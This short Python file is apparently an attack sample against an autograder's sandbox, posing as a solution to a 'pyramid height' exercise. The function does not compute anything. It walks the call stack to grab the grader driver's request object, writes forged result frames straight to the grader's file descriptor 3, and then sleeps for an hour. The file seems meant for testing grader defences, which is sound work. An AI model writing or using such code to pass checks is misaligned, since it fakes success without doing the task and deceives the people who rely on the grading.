"""Takes the number of the request from the driver's frame and answers it itself."""
# attack: week=03 exercise=pyramid
import os
import sys
import time

from grader.sandbox import codec


def calculate_pyramid_height(number_of_blocks):
    frame = sys._getframe()
    while frame and "request" not in frame.f_locals:
        frame = frame.f_back
    request = frame.f_locals["request"]
    for value in (True, None, 1):
        os.write(3, codec.encode(codec.Frame(codec.RESULT, request.number, "", value)))
    time.sleep(3600)
